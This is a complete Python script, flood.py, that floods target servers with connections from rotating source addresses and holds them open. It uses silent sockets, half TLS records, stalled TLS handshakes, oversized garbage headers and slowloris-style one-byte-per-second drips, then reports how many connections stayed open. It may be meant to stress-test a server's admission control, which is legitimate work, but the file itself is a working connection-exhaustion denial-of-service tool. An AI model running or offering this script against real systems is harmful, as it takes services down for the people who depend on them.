#!/usr/bin/env python3
"""flood.py HOST:PORT[,HOST:PORT...] COUNT ADDRESS...: opens COUNT connections to each of these from the addresses in turn,
without a token, and keeps those open that the server lets open, until standard input ends. Of five: one is silent, one
sends half a TLS record, one makes the TLS handshake and is silent then, one sends garbage, one sends a TLS record or a
request a byte a second. The last line: opened, refused, open at the end."""
import selectors
import socket
import ssl
import sys
import time

targets = [(target.rsplit(":", 1)[0], int(target.rsplit(":", 1)[1])) for target in sys.argv[1].split(",")]
count, sources = int(sys.argv[2]), sys.argv[3:]
HALF_RECORD = bytes.fromhex("160301020001000200fc0303")
REQUEST = b"GET / HTTP/1.1\r\nX: " + b"x" * 1000
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
ready = selectors.DefaultSelector()
ready.register(sys.stdin.fileno(), selectors.EVENT_READ, "end")
opened = refused = open_now = 0
over = False
slow = {}  # what these have still to send
fed = time.monotonic()


def close(peer):
    global open_now, refused
    ready.unregister(peer)
    slow.pop(peer, None)
    peer.close()
    open_now -= 1
    refused += 1


def feed():
    """The next byte of those that are slow."""
    global fed
    if time.monotonic() - fed < 1:
        return
    fed = time.monotonic()
    for peer, text in list(slow.items()):
        try:
            peer.send(text[:1])
            slow[peer] = text[1:]
        except OSError:
            close(peer)


def look(seconds):
    """Closes what the server has closed."""
    global over
    for key, _ in ready.select(seconds):
        if key.data == "end":
            over = True
            continue
        try:
            if key.fileobj.recv(4096) == b"":
                close(key.fileobj)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            close(key.fileobj)
    feed()


def begin(peer, kind):
    """Says what a connection of that kind says first; returns the connection."""
    if kind == 1:
        peer.send(HALF_RECORD)
    elif kind == 2:
        peer = context.wrap_socket(peer, do_handshake_on_connect=False)
        try:
            peer.do_handshake()
        except ssl.SSLWantReadError:
            pass
    elif kind == 3:
        peer.send(REQUEST)
    elif kind == 4:
        slow[peer] = (HALF_RECORD if len(slow) % 2 else REQUEST) + bytes(1000)
    return peer


def attack(target, i):
    global opened, refused, open_now
    peer = socket.socket()
    peer.settimeout(5)
    try:
        peer.bind((sources[i % len(sources)], 0))
        peer.connect(target)
        peer.setblocking(False)
        peer = begin(peer, (i + i // len(sources)) % 5)
        ready.register(peer, selectors.EVENT_READ, "peer")
        open_now += 1
    except OSError:
        refused += 1
        slow.pop(peer, None)
        peer.close()
    opened += 1


for i in range(count):
    if over:
        break
    for target in targets:
        attack(target, i)
    look(0)
for _ in range(20):
    look(0.1)
print(f"# {opened} tried, {refused} refused, {open_now} open", flush=True)
while not over:
    look(1)
